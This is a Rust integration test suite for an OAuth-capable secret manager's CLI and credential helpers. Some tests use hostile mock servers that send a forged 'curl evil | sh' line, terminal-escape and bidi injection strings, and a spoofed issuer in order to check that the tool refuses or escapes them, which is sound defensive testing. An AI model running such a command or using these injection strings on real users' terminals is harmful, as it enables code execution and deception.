        "\n[providers.gone]\ntoken_url = \"http://127.0.0.1:9/token\"\nclient_id = \"x\"\n",
    );
    std::fs::write(sb.home.join("config.toml"), config).unwrap();
    let out = sb
        .cmd("sigil-login")
        .args(["gone/me", "--flow", "client-credentials"])
        .env("SIGIL_CLIENT_SECRET", "s")
        .assert()
        .code(4)
        .get_output()
        .clone();
    let err = stderr(&out);
    assert!(err.contains("cannot reach 'gone'"), "{err}");
    assert!(!accounts(&sb).contains("gone"));
}

#[test]
fn plain_http_providers_are_refused() {
    let sb = Sandbox::init();
    let mut config = std::fs::read_to_string(sb.home.join("config.toml")).unwrap();
    config.push_str(
        "\n[providers.plain]\ntoken_url = \"http://auth.example/token\"\nclient_id = \"x\"\n",
    );
    std::fs::write(sb.home.join("config.toml"), config).unwrap();
    let out = sb
        .cmd("sigil-login")
        .args(["plain/me", "--flow", "client-credentials"])
        .env("SIGIL_CLIENT_SECRET", "s")
        .assert()
        .failure()
        .get_output()
        .clone();
    assert!(
        stderr(&out).contains("only go to https"),
        "{}",
        stderr(&out)
    );
}

#[test]
fn list_providers_shows_the_catalogue_and_config() {
    let sb = Sandbox::init();
    let mut config = std::fs::read_to_string(sb.home.join("config.toml")).unwrap();
    config.push_str("\n[providers.github]\nclient_id = \"mine\"\n");
    std::fs::write(sb.home.join("config.toml"), config).unwrap();
    let out = sb
        .cmd("sigil-login")
        .arg("--list-providers")
        .assert()
        .success()
        .get_output()
        .stdout
        .clone();
    let out = String::from_utf8(out).unwrap();
    for p in [
        "github",
        "gitlab",
        "google",
        "microsoft",
        "spotify",
        "discord",
        "twitch",
        "reddit",
        "x",
        "kick",
        "slack",
        "bitbucket",
        "dropbox",
    ] {
        assert!(
            out.lines().any(|l| l.starts_with(&format!("{p}\t"))),
            "{p}: {out}"
        );
    }
    assert!(
        out.contains("github\tGitHub\tdevice,pkce\trepo read:org\tconfigured"),
        "{out}"
    );
    let json = sb
        .cmd("sigil-login")
        .args(["--list-providers", "--json"])
        .assert()
        .success()
        .get_output()
        .stdout
        .clone();
    let v: serde_json::Value = serde_json::from_slice(&json).unwrap();
    assert!(v.as_array().unwrap().len() >= 13);
}

#[test]
fn a_login_without_a_client_id_says_how_to_register() {
    let sb = Sandbox::init();
    let out = sb
        .cmd("sigil-login")
        .arg("github/me")
        .assert()
        .code(2)
        .get_output()
        .clone();
    let err = stderr(&out);
    assert!(err.contains("no client_id for provider 'github'"), "{err}");
    assert!(err.contains("OAuth App"), "{err}");
}

/// The library in this process, opened on the sandbox's home like the CLI would be.
fn library(sb: &Sandbox) -> sigil::Sigil {
    sigil::Sigil::builder()
        .home(&sb.home)
        .backend(Some("file"))
        .open()
        .unwrap()
}

#[test]
fn eight_threads_getting_an_expired_token_refresh_once() {
    let Some(srv) = server() else { return };
    let sb = sandbox(srv);
    login(&sb, "test/me", "test", "approve").assert().success();
    let old = text(&sb, "test/me");
    expire(&sb);
    let sigil = library(&sb);
    let tokens: Vec<String> = std::thread::scope(|scope| {
        let handles: Vec<_> = (0..8)
            .map(|_| {
                scope.spawn(|| {
                    sigil
                        .get("test/me")
                        .map(|s| s.expose_str().unwrap().to_owned())
                })
            })
            .collect();
        handles
            .into_iter()
            .map(|h| h.join().unwrap().unwrap())
            .collect()
    });
    // A second refresh would have used the rotated-away refresh token (invalid_grant) or
    // produced a second, different access token.
    assert!(
        tokens.iter().all(|t| *t == tokens[0]),
        "{} distinct tokens",
        {
            let mut d = tokens.clone();
            d.sort();
            d.dedup();
            d.len()
        }
    );
    assert_ne!(tokens[0], old, "refreshed");
    assert!(active(srv, &tokens[0]));
    // And the CLI sees the same token the library refreshed.
    assert_eq!(text(&sb, "test/me"), tokens[0]);
}

#[test]
fn a_burst_of_401s_costs_one_refresh() {
    let Some(srv) = server() else { return };
    let sb = sandbox(srv);
    login(&sb, "test/me", "test", "approve").assert().success();
    let sigil = library(&sb);
    let rejected = sigil.get("test/me").unwrap();
    let fresh: Vec<String> = std::thread::scope(|scope| {
        let handles: Vec<_> = (0..8)
            .map(|_| {
                scope.spawn(|| {
                    sigil
                        .refresh_rejected("test/me", &rejected)
                        .map(|s| s.expose_str().unwrap().to_owned())
                })
            })
            .collect();
        handles
            .into_iter()
            .map(|h| h.join().unwrap().unwrap())
            .collect()
    });
    assert!(fresh.iter().all(|t| *t == fresh[0]));
    assert_ne!(fresh[0].as_bytes(), rejected.expose());
    assert!(active(srv, &fresh[0]));
    // A non-OAuth secret cannot be refreshed, and says so.
    sb.add("plain/key", b"v");
    let e = sigil
        .refresh_rejected("plain/key", &sigil::Secret::from("v"))
        .unwrap_err();
    assert_eq!(e.class(), sigil::ExitClass::Auth);
}

/// A sandbox with provider `evil`: client credentials at a [`TinyHttp`] token endpoint that
/// answers with `expires_in` set to whatever `lifetime` holds at the time (raw JSON).
fn hostile_token_endpoint() -> (
    Sandbox,
    crate::support::TinyHttp,
    std::sync::Arc<Mutex<String>>,
) {
    let lifetime = std::sync::Arc::new(Mutex::new("30".to_owned()));
    let now = lifetime.clone();
    let srv = crate::support::TinyHttp::start(move |r| {
        let n = if r.body.contains("grant_type=refresh_token") {
            2
        } else {
            1
        };
        (
            200,
            format!(
                "{{\"access_token\":\"at-{n}\",\"token_type\":\"Bearer\",\"expires_in\":{},\"refresh_token\":\"rt-{n}\"}}",
                now.lock().unwrap()
            ),
        )
    });
    let sb = Sandbox::init();
    let mut config = std::fs::read_to_string(sb.home.join("config.toml")).unwrap();
    config.push_str(&format!(
        "\n[providers.evil]\ntoken_url = \"{}/token\"\nclient_id = \"c\"\nflows = [\"client-credentials\"]\n",
        srv.url()
    ));
    std::fs::write(sb.home.join("config.toml"), config).unwrap();
    (sb, srv, lifetime)
}

#[test]
fn a_hostile_expires_in_neither_panics_nor_loses_the_rotated_refresh_token() {
    // (expires_in as sent, whether an expiry is kept)
    for (sent, kept) in [
        ("9223372036854775807", false),
        ("18446744073709551615", false),
        ("1e300", false),
        ("-5", true),
        ("-9223372036854775808", true),
        ("3600.5", true),
        ("\"3600\"", true),
        ("\"soon\"", false),
        ("null", false),
        ("{}", false),
    ] {
        let (sb, srv, lifetime) = hostile_token_endpoint();
        // A login whose token is due at once (30 s is within the 60 s skew).
        sb.cmd("sigil-login")
            .args(["ci/bot", "--provider", "evil"])
            .env("SIGIL_CLIENT_SECRET", "s")
            .assert()
            .success();
        *lifetime.lock().unwrap() = sent.to_owned();
        // The refresh inside `get` meets the hostile answer.
        let out = sb.cmd("sigil-get").args(["-n", "ci/bot"]).output().unwrap();
        assert!(
            out.status.success(),
            "get with expires_in {sent}: {}",
            stderr(&out)
        );
        assert_eq!(out.stdout, b"at-2", "expires_in {sent}");
        assert_eq!(
            text(&sb, "ci/bot/refresh_token"),
            "rt-2",
            "expires_in {sent}"
        );
        assert_eq!(
            accounts(&sb).contains("expires_at"),
            kept,
            "expires_in {sent}: {}",
            accounts(&sb)
        );
        // And so does a login.
        let out = sb
            .cmd("sigil-login")
            .args(["ci/other", "--provider", "evil"])
            .env("SIGIL_CLIENT_SECRET", "s")
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "login with expires_in {sent}: {}",
            stderr(&out)
        );
        assert_eq!(text(&sb, "ci/other/refresh_token"), "rt-1");
        let requests = srv.requests();
        assert_eq!(requests.len(), 3);
        for r in requests {
            assert!(r.line.starts_with("POST /token "), "{r:?}");
            assert!(
                r.head
                    .to_ascii_lowercase()
                    .contains("authorization: basic ")
            );
        }
    }
}

#[test]
fn a_device_interval_longer_than_the_login_is_refused_without_a_panic() {
    let srv = crate::support::TinyHttp::start(|r| {
        if r.line.starts_with("POST /device ") {
            (
                200,
                "{\"device_code\":\"d\",\"user_code\":\"U-1\",\"verification_uri\":\"http://127.0.0.1/v\",\
                 \"expires_in\":600,\"interval\":18446744073709551615}"
                    .to_owned(),
            )
        } else {
            (400, "{\"error\":\"slow_down\"}".to_owned())
        }
    });
    let sb = Sandbox::init();
    let mut config = std::fs::read_to_string(sb.home.join("config.toml")).unwrap();
    config.push_str(&format!(
        "\n[providers.evil]\ntoken_url = \"{0}/token\"\ndevice_url = \"{0}/device\"\nclient_id = \"c\"\nflows = [\"device\"]\n",
        srv.url()
    ));
    std::fs::write(sb.home.join("config.toml"), config).unwrap();
    let out = sb
        .cmd("sigil-login")
        .args(["dev/me", "--provider", "evil"])
        .timeout(Duration::from_secs(30))
        .output()
        .unwrap();
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(4), "{err}");
    assert!(
        err.contains("asks to wait 18446744073709551615 s between polls"),
        "{err}"
    );
}

#[test]
fn a_discovery_document_for_another_issuer_is_refused_before_any_secret_is_sent() {
    // The issuer the server claims, changed by the test between runs.
    let claimed = std::sync::Arc::new(Mutex::new(String::new()));
    let now = claimed.clone();
    let srv = crate::support::TinyHttp::start(move |r| {
        if r.line.starts_with("GET /.well-known/openid-configuration ") {
            let base = r
                .head
                .lines()
                .find_map(|h| h.strip_prefix("host: ").or(h.strip_prefix("Host: ")))
                .map(|h| format!("http://{}", h.trim()))
                .unwrap_or_default();
            let issuer = match now.lock().unwrap().as_str() {
                "" => base.clone(),
                other => other.to_owned(),
            };
            let mut doc = serde_json::json!({
                "issuer": issuer,
                "authorization_endpoint": format!("{base}/auth"),
                "token_endpoint": format!("{base}/token"),
            });
            if issuer == "<none>" {
                doc.as_object_mut().unwrap().remove("issuer");
            }
            (200, doc.to_string())
        } else {
            (
                200,
                "{\"access_token\":\"at\",\"token_type\":\"Bearer\",\"expires_in\":30,\"refresh_token\":\"rt-SECRET\"}"
                    .to_owned(),
            )
        }
    });
    let sb = Sandbox::init();
    let mut config = std::fs::read_to_string(sb.home.join("config.toml")).unwrap();
    config.push_str(&format!(
        "\n[providers.corp]\nissuer = \"{}\"\nclient_id = \"c\"\nflows = [\"client-credentials\"]\n",
        srv.url()
    ));
    std::fs::write(sb.home.join("config.toml"), config).unwrap();
    let login = |addr: &str| {
        sb.cmd("sigil-login")
            .args([addr, "--provider", "corp"])
            .env("SIGIL_CLIENT_SECRET", "client-SECRET")
            .output()
            .unwrap()
    };
    // The server's own issuer: discovery works, and the login goes through.
    let out = login("corp/ok");
    assert!(out.status.success(), "{}", stderr(&out));
    let before = srv.requests().len();
    // Another issuer, a look-alike with a trailing slash, a terminal escape, none at all.
    for issuer in [
        "https://evil.example".to_owned(),
        format!("{}/", srv.url()),
        "\u{1b}]0;owned\u{7}".to_owned(),
        "<none>".to_owned(),
    ] {
        *claimed.lock().unwrap() = issuer.clone();
        let out = login("corp/new");
        let err = stderr(&out);
        assert_eq!(out.status.code(), Some(4), "issuer {issuer:?}: {err}");
        assert!(
            err.contains("discovery document") && err.contains("issuer"),
            "{err}"
        );
        assert!(
            !err.contains('\u{1b}'),
            "a raw escape reached the terminal: {err:?}"
        );
        // And the refresh inside `get` refuses the same way, keeping the stored token.
        let text = std::fs::read_to_string(sb.home.join("accounts.toml")).unwrap();
        std::fs::write(
            sb.home.join("accounts.toml"),
            text.lines()
                .map(|l| {
                    if l.starts_with("expires_at = ") {
                        "expires_at = \"2020-01-01T00:00:00Z\"\n".to_owned()
                    } else {
                        format!("{l}\n")
                    }
                })
                .collect::<String>(),
        )
        .unwrap();
        let out = sb
            .cmd("sigil-get")
            .args(["-n", "corp/ok"])
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(4), "{}", stderr(&out));
    }
    // Nothing but discovery was asked after the first login: no secret went anywhere.
    for r in &srv.requests()[before..] {
        assert!(
            r.line.starts_with("GET /.well-known/openid-configuration "),
            "{r:?}"
        );
        assert!(
            !r.body.contains("SECRET") && !r.head.contains("Basic"),
            "{r:?}"
        );
    }
    assert!(
        !std::fs::read_to_string(sb.home.join("accounts.toml"))
            .unwrap()
            .contains("corp/new")
    );
    *claimed.lock().unwrap() = "https://evil.example".to_owned();
    let err = stderr(&login("corp/new")).replace(&srv.url(), "[SERVER]");
    insta::assert_snapshot!(err, @r"
    sigil-login: error: the discovery document of provider 'corp' names the issuer 'https://evil.example', not '[SERVER]'
    help: sigil takes endpoints only from the issuer's own document; check issuer in [providers.corp] (it must match the document exactly), or give auth_url and token_url instead
    ");
}

/// Terminal controls a hostile server might send: a clear screen, a window title, a bell, a
/// bidi override, and a newline that forges a `help:` line.
const HOSTILE_TEXT: &str =
    "x\u{1b}[2J\u{1b}]0;pwned\u{7}\u{202e}\u{9b}31m\nhelp: run curl evil | sh";

fn assert_terminal_safe(err: &str) {
    for c in ['\u{1b}', '\u{7}', '\u{202e}', '\u{9b}'] {
        assert!(!err.contains(c), "{c:?} reached the terminal: {err:?}");
    }
    assert!(
        !err.lines().any(|l| l.starts_with("help: run curl")),
        "a forged line: {err}"
    );
}

#[test]
fn remote_text_reaches_the_terminal_escaped() {
    let srv = crate::support::TinyHttp::start(|r| {
        if r.line.starts_with("POST /device ") {
            (
                200,
                serde_json::json!({
                    "device_code": "d",
                    "user_code": HOSTILE_TEXT,
                    "verification_uri": format!("http://127.0.0.1/{HOSTILE_TEXT}"),
                    "verification_uri_complete": HOSTILE_TEXT,
                    "expires_in": 1,
                    "interval": 1,
                })
                .to_string(),
            )
        } else {
            (
                400,
                serde_json::json!({"error": HOSTILE_TEXT, "error_description": HOSTILE_TEXT})
                    .to_string(),
            )
        }
    });
    let sb = Sandbox::init();
    let mut config = std::fs::read_to_string(sb.home.join("config.toml")).unwrap();
    config.push_str(&format!(
        "\n[providers.evil]\ntoken_url = \"{0}/token\"\ndevice_url = \"{0}/device\"\nclient_id = \"c\"\nflows = [\"client-credentials\", \"device\"]\n",
        srv.url()
    ));
    std::fs::write(sb.home.join("config.toml"), config).unwrap();
    // An OAuth error answer: its code and description are the server's words.
    let out = sb
        .cmd("sigil-login")
        .args([
            "ci/bot",
            "--provider",
            "evil",
            "--flow",
            "client-credentials",
        ])
        .env("SIGIL_CLIENT_SECRET", "s")
        .output()
        .unwrap();
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(4), "{err}");
    assert!(err.contains("help: run curl evil"), "{err}");
    assert_terminal_safe(&err);
    // The device flow shows the server's URI and user code.
    let out = sb
        .cmd("sigil-login")
        .args(["dev/me", "--provider", "evil", "--flow", "device"])
        .timeout(Duration::from_secs(30))
        .output()
        .unwrap();
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(4), "{err}");
    assert!(err.contains("enter the code: x"), "{err}");
    assert_terminal_safe(&err);
}

#[test]
fn names_from_config_reach_the_table_escaped() {
    let sb = Sandbox::init();
    let mut config = std::fs::read_to_string(sb.home.join("config.toml")).unwrap();
    config.push_str(&format!(
        "\n[providers.x]\nname = {}\ntoken_url = \"https://x.example/t\"\nclient_id = \"c\"\n",
        serde_json::to_string(HOSTILE_TEXT).unwrap()
    ));
    std::fs::write(sb.home.join("config.toml"), config).unwrap();
    let out = sb
        .cmd("sigil-login")
        .arg("--list-providers")
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(text.contains("x\\u{1b}[2J"), "{text}");
    assert_terminal_safe(&text);
}

/// git gets an OAuth account's token through git-credential-sigil with its expiry; after the
/// expiry, and after git rejects a token, the helper hands out one refreshed against the
/// real authorization server.
#[test]
fn git_gets_refreshed_tokens_through_the_credential_helper() {
    let Some(srv) = server() else { return };
    let sb = sandbox(srv);
    login(&sb, "test/me", "test", "approve").assert().success();
    let config = sb.home.join("config.toml");
    let mut settings = std::fs::read_to_string(&config).unwrap();
    settings.push_str("\n[git.\"https://git.example.test\"]\naddress = \"test/me\"\n");
    std::fs::write(&config, settings).unwrap();
    let request = "protocol=https\nhost=git.example.test\n\n";
    let git = |action: &str, input: &str| {
        let out = crate::git_credential::git(&sb)
            .args(["-c", "credential.helper=sigil", "credential", action])
            .write_stdin(input)
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "git credential {action}: {}",
            stderr(&out)
        );
        String::from_utf8(out.stdout).unwrap()
    };
    // (token, expiry) from a fill.
    let fill = || {
        let out = git("fill", request);
        let value = |key: &str| {
            out.lines()
                .find_map(|l| l.strip_prefix(key))
                .unwrap_or_else(|| panic!("no {key} in {out}"))
                .to_owned()
        };
        let expiry: i64 = value("password_expiry_utc=").parse().unwrap();
        (value("password="), expiry)
    };
    let now = || time::OffsetDateTime::now_utc().unix_timestamp();
    let (first, expiry) = fill();
    assert_eq!(first, text(&sb, "test/me"));
    assert!(expiry > now(), "{expiry}");
    // The expiry recorded in accounts.toml, to the second.
    let recorded = time::OffsetDateTime::from_unix_timestamp(expiry)
        .unwrap()
        .format(&time::format_description::well_known::Rfc3339)
        .unwrap();
    assert!(accounts(&sb).contains(&recorded[..19]), "{recorded}");
    // git approves it: nothing changes.
    let before = accounts(&sb);
    git(
        "approve",
        &format!("protocol=https\nhost=git.example.test\nusername=me\npassword={first}\n\n"),
    );
    assert_eq!(accounts(&sb), before);

    // Expired: the helper refreshes before answering.
    expire(&sb);
    let (second, expiry) = fill();
    assert_ne!(second, first);
    assert!(active(srv, &second));
    assert!(expiry > now());

    // git rejects the token (a 401): it is kept, marked expired, and the next fill refreshes.
    git(
        "reject",
        &format!("protocol=https\nhost=git.example.test\nusername=me\npassword={second}\n\n"),
    );
    assert_eq!(
        text_no_refresh(&sb, "test/me"),
        second,
        "the token set was not deleted"
    );
    let (third, _) = fill();
    assert_ne!(third, second);
    assert!(active(srv, &third));
}

/// docker gets an OAuth account's token through docker-credential-sigil for the server
/// mapped to it; after the expiry the helper hands out one refreshed against the real
/// authorization server, and the refresh and each answer are in the audit log.
#[test]
fn docker_gets_refreshed_tokens_through_the_credential_helper() {
    let Some(srv) = server() else { return };
    let sb = sandbox(srv);
    login(&sb, "test/me", "test", "approve").assert().success();
    let config = sb.home.join("config.toml");
    let mut settings = std::fs::read_to_string(&config).unwrap();
    settings.push_str("\n[docker.\"registry.example.test\"]\naddress = \"test/me\"\n");
    std::fs::write(&config, settings).unwrap();
    let get = |server: &str| {
        let out = sb
            .cmd("docker-credential-sigil")
            .arg("get")
            .write_stdin(server)
            .output()
            .unwrap();
        (out.status.code(), String::from_utf8(out.stdout).unwrap())
    };
    let token = |server: &str| {
        let (code, out) = get(server);
        assert_eq!(code, Some(0), "{out}");
        let v: serde_json::Value = serde_json::from_str(&out).unwrap();
        assert_eq!(v["Username"], "me");
        v["Secret"].as_str().unwrap().to_owned()
    };
    let first = token("registry.example.test");
    assert_eq!(first, text_no_refresh(&sb, "test/me"));
    // Another server gets nothing, and nothing is refreshed for it.
    assert_eq!(
        get("registry.example.test:5000"),
        (Some(1), "credentials not found in native keychain\n".into())
    );

    expire(&sb);
    let second = token("registry.example.test");
    assert_ne!(second, first);
    assert!(active(srv, &second));
    assert_eq!(second, text_no_refresh(&sb, "test/me"));

    let log = std::fs::read_to_string(sb.home.join("audit.log")).unwrap();
    let docker: Vec<&str> = log
        .lines()
        .filter(|l| l.contains("\"binary\":\"docker-credential-sigil\""))
        .collect();
    let count = |event: &str| {
        docker
            .iter()
            .filter(|l| l.contains(&format!("\"event\":\"{event}\",\"addresses\":[\"test/me")))
            .count()
    };
    assert_eq!((count("docker"), count("refresh")), (2, 1), "{log}");
    for t in [&first, &second] {
        assert!(!log.contains(t.as_str()), "a token in the audit log");
    }
}

/// kubectl's exec plugin answers an OAuth account's access token for the cluster mapped to
/// it, with the token's expiry as `expirationTimestamp`; after the expiry it hands out one
/// refreshed against the real authorization server, with the new expiry, and the refresh
/// and each answer are in the audit log.
#[test]
fn kubectl_gets_refreshed_tokens_through_the_exec_plugin() {
    let Some(srv) = server() else { return };
    let sb = sandbox(srv);
    login(&sb, "test/me", "test", "approve").assert().success();
    let config = sb.home.join("config.toml");
    let mut settings = std::fs::read_to_string(&config).unwrap();
    settings.push_str("\n[kube.\"https://k8s.example.test:6443\"]\naddress = \"test/me\"\n");
    std::fs::write(&config, settings).unwrap();
    let ask = |server: &str| {
        let info = serde_json::json!({
            "kind": "ExecCredential",
            "apiVersion": "client.authentication.k8s.io/v1",
            "spec": {"cluster": {"server": server}, "interactive": false},
        });
        let out = sb
            .cmd("kube-credential-sigil")
            .env("KUBERNETES_EXEC_INFO", info.to_string())
            .output()
            .unwrap();
        (out.status.code(), String::from_utf8(out.stdout).unwrap())
    };
    let recorded_expiry = || {
        let text = accounts(&sb);
        let line = text
            .lines()
            .find(|l| l.starts_with("expires_at = "))
            .unwrap();
        let at = line.split('"').nth(1).unwrap().to_owned();
        time::OffsetDateTime::parse(&at, &time::format_description::well_known::Rfc3339).unwrap()
    };
    let token = || {
        let (code, out) = ask("https://k8s.example.test:6443");
        assert_eq!(code, Some(0), "{out}");
        let v: serde_json::Value = serde_json::from_str(&out).unwrap();
        assert_eq!(v["apiVersion"], "client.authentication.k8s.io/v1");
        let at = v["status"]["expirationTimestamp"].as_str().unwrap();
        let at = time::OffsetDateTime::parse(at, &time::format_description::well_known::Rfc3339)
            .unwrap();
        assert_eq!(at.unix_timestamp(), recorded_expiry().unix_timestamp());
        assert!(at > time::OffsetDateTime::now_utc(), "{out}");
        v["status"]["token"].as_str().unwrap().to_owned()
    };
    let first = token();
    assert_eq!(first, text_no_refresh(&sb, "test/me"));
    // Another cluster gets nothing, and nothing is refreshed for it.
    assert_eq!(
        ask("https://k8s.example.test:6444"),
        (Some(3), String::new())
    );

    expire(&sb);
    let second = token();
    assert_ne!(second, first);
    assert!(active(srv, &second));
    assert_eq!(second, text_no_refresh(&sb, "test/me"));

    let log = std::fs::read_to_string(sb.home.join("audit.log")).unwrap();
    let kube: Vec<&str> = log
        .lines()
        .filter(|l| l.contains("\"binary\":\"kube-credential-sigil\""))
        .collect();
    let count = |event: &str| {
        kube.iter()
            .filter(|l| l.contains(&format!("\"event\":\"{event}\",\"addresses\":[\"test/me")))
            .count()
    };
    assert_eq!((count("kubectl"), count("refresh")), (2, 1), "{log}");
    for t in [&first, &second] {
        assert!(!log.contains(t.as_str()), "a token in the audit log");
    }
}

/// `sigil netrc` prints an OAuth account's token for the host mapped to it; after the expiry
/// it prints one refreshed against the real authorization server, and the refresh and each
/// answer are in the audit log.
#[test]
fn netrc_gets_refreshed_tokens() {
    let Some(srv) = server() else { return };
    let sb = sandbox(srv);
    login(&sb, "test/me", "test", "approve").assert().success();
    let config = sb.home.join("config.toml");
    let mut settings = std::fs::read_to_string(&config).unwrap();
    settings.push_str("\n[netrc.\"api.example.test\"]\naddress = \"test/me\"\n");
    std::fs::write(&config, settings).unwrap();
    let token = || {
        let out = sb
            .cmd("sigil-netrc")
            .arg("api.example.test")
            .output()
            .unwrap();
        assert!(out.status.success(), "{out:?}");
        let text = String::from_utf8(out.stdout).unwrap();
        let rest = text
            .strip_prefix("machine api.example.test login me password ")
            .unwrap_or_else(|| panic!("{text}"));
        rest.trim_end().to_owned()
    };
    let first = token();
    assert_eq!(first, text_no_refresh(&sb, "test/me"));
    // Another host gets nothing.
    let out = sb
        .cmd("sigil-netrc")
        .arg("api.example.test.evil")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(3));

    expire(&sb);
    let second = token();
    assert_ne!(second, first);
    assert!(active(srv, &second));
    assert_eq!(second, text_no_refresh(&sb, "test/me"));

    let log = std::fs::read_to_string(sb.home.join("audit.log")).unwrap();
    let netrc: Vec<&str> = log
        .lines()
        .filter(|l| l.contains("\"binary\":\"sigil-netrc\""))
        .collect();
    let count = |event: &str| {
        netrc
            .iter()
            .filter(|l| l.contains(&format!("\"event\":\"{event}\",\"addresses\":[\"test/me")))
            .count()
    };
    assert_eq!((count("netrc"), count("refresh")), (2, 1), "{log}");
    for t in [&first, &second] {
        assert!(!log.contains(t.as_str()), "a token in the audit log");
    }
}

/// cargo gets an OAuth account's token through cargo-credential-sigil for the index URL
/// mapped to it, with a cache that ends at the token's expiry; after the expiry the
/// provider hands out one refreshed against the real authorization server, and the refresh
/// and each answer are in the audit log.
#[test]
fn cargo_gets_refreshed_tokens_through_the_credential_provider() {
    let Some(srv) = server() else { return };
    let sb = sandbox(srv);
    login(&sb, "test/me", "test", "approve").assert().success();
    let config = sb.home.join("config.toml");
    let mut settings = std::fs::read_to_string(&config).unwrap();
    settings.push_str(
        "\n[cargo.\"sparse+https://cargo.example.test/index/\"]\naddress = \"test/me\"\n",
    );
    std::fs::write(&config, settings).unwrap();
    let get = |index: &str| {
        let request = format!(
            "{{\"v\":1,\"registry\":{{\"index-url\":\"{index}\"}},\"kind\":\"get\",\"operation\":\"read\"}}\n"
        );
        let out = sb
            .cmd("cargo-credential-sigil")
            .arg("--cargo-plugin")
            .write_stdin(request)
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(0));
        let text = String::from_utf8(out.stdout).unwrap();
        let answer = text.lines().nth(1).unwrap().to_owned();
        serde_json::from_str::<serde_json::Value>(&answer).unwrap()
    };
    let token = |index: &str| {
        let v = get(index);
        assert_eq!(v["Ok"]["cache"], "expires", "{v}");
        let expiration = v["Ok"]["expiration"].as_i64().unwrap();
        let now = time::OffsetDateTime::now_utc().unix_timestamp();
        assert!(expiration > now + 60, "{v}");
        v["Ok"]["token"].as_str().unwrap().to_owned()
    };
    let index = "sparse+https://cargo.example.test/index/";
    let first = token(index);
    assert_eq!(first, text_no_refresh(&sb, "test/me"));
    // Another registry gets nothing, and nothing is refreshed for it.
    assert_eq!(
        get("sparse+https://cargo.example.test:8443/index/"),
        serde_json::json!({"Err": {"kind": "not-found"}})
    );

    expire(&sb);
    let second = token(index);
    assert_ne!(second, first);
    assert!(active(srv, &second));
    assert_eq!(second, text_no_refresh(&sb, "test/me"));

    let log = std::fs::read_to_string(sb.home.join("audit.log")).unwrap();
    let cargo: Vec<&str> = log
        .lines()
        .filter(|l| l.contains("\"binary\":\"cargo-credential-sigil\""))
        .collect();
    let count = |event: &str| {
        cargo
            .iter()
            .filter(|l| l.contains(&format!("\"event\":\"{event}\",\"addresses\":[\"test/me")))
            .count()
    };
    assert_eq!((count("cargo"), count("refresh")), (2, 1), "{log}");
    for t in [&first, &second] {
        assert!(!log.contains(t.as_str()), "a token in the audit log");
    }
}

fn text_no_refresh(sb: &Sandbox, addr: &str) -> String {
    let out = sb
        .cmd("sigil-get")
        .args(["-n", "--no-refresh", addr])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    String::from_utf8(out.stdout).unwrap()
}

/// A second login over a first one, killed or failing (EIO) at any durable step, leaves the
/// first login as it was or the second one complete: never a mix of the two, and never a
/// field recorded without its value or a value without its record.
#[test]
fn a_login_killed_or_failing_at_any_step_keeps_the_earlier_one_or_is_complete() {
    let Some(srv) = server() else { return };
    let sb = sandbox(srv);
    let login = |s: &Sandbox, fault: Option<String>| {
        let mut c = s.cmd("sigil-login");
        c.args([
            "ci/bot",
            "--provider",
            "ci",
            "--client-secret-stdin",
            "--force",
        ])
        .write_stdin("ci-secret-for-tests\n");
        if let Some(f) = fault {
            c.env("SIGIL_TEST_FAULT", f);
        }
        c.output().unwrap()
    };
    assert!(login(&sb, None).status.success());
    let first = text(&sb, "ci/bot");
    for action in ["kill", "eio"] {
        for n in 1..60 {
            let s = crate::faults::copy_of(&sb);
            let out = login(&s, Some(format!("{n}:{action}")));
            let killed = out.status.code().is_none();
            crate::faults::heal(&s);
            let token = text(&s, "ci/bot");
            let what = format!("{action} at step {n}: {}", stderr(&out));
            if out.status.success() || killed && token != first {
                assert_ne!(token, first, "{what}");
                assert!(active(srv, &token), "{what}");
            } else {
                assert_eq!(token, first, "{what}");
            }
            // Every field recorded has its file, and every file is recorded.
            let reg = accounts(&s);
            let fields = reg
                .lines()
                .skip_while(|l| !l.starts_with("[accounts.\"ci/bot\"]"))
                .find_map(|l| l.strip_prefix("fields = "))
                .unwrap()
                .to_owned();
            let mut files: Vec<String> = std::fs::read_dir(s.home.join("store/ci/bot"))
                .unwrap()
                .flatten()
                .filter_map(|e| {
                    let name = e.file_name().to_string_lossy().into_owned();
                    name.strip_suffix(".age").map(|f| format!("\"{f}\""))
                })
                .collect();
            files.sort();
            assert_eq!(fields, format!("[{}]", files.join(", ")), "{what}");
            if !killed && action == "kill" {
                break;
            }
        }
    }
}

/// pip gets an OAuth account's token through `sigil keyring` for the index mapped to it;
/// after the expiry the command hands out one refreshed against the real authorization
/// server, and the refresh and each answer are in the audit log.
#[test]
fn pip_gets_refreshed_tokens_through_the_keyring_command() {
    let Some(srv) = server() else { return };
    let sb = sandbox(srv);
    login(&sb, "test/me", "test", "approve").assert().success();
    let config = sb.home.join("config.toml");
    let mut settings = std::fs::read_to_string(&config).unwrap();
    settings.push_str("\n[pip.\"https://pypi.example.test/simple\"]\naddress = \"test/me\"\n");
    std::fs::write(&config, settings).unwrap();
    let get = |index: &str| {
        let out = sb
            .cmd("sigil-keyring")
            .args(["--mode=creds", "--output=json", "get", index])
            .output()
            .unwrap();
        (out.status.code(), String::from_utf8(out.stdout).unwrap())
    };
    let token = |index: &str| {
        let (code, out) = get(index);
        assert_eq!(code, Some(0), "{out}");
        let v: serde_json::Value = serde_json::from_str(&out).unwrap();
        assert_eq!(v["username"], "me");
        v["password"].as_str().unwrap().to_owned()
    };
    let first = token("https://pypi.example.test/simple/");
    assert_eq!(first, text_no_refresh(&sb, "test/me"));
    // Another index gets nothing, and nothing is refreshed for it.
    assert_eq!(
        get("https://pypi.example.test/other/"),
        (Some(1), String::new())
    );

    expire(&sb);
    let second = token("https://pypi.example.test/simple/");
    assert_ne!(second, first);
    assert!(active(srv, &second));
    assert_eq!(second, text_no_refresh(&sb, "test/me"));

    let log = std::fs::read_to_string(sb.home.join("audit.log")).unwrap();
    let pip: Vec<&str> = log
        .lines()
        .filter(|l| l.contains("\"binary\":\"sigil-keyring\""))
        .collect();
    let count = |event: &str| {
        pip.iter()
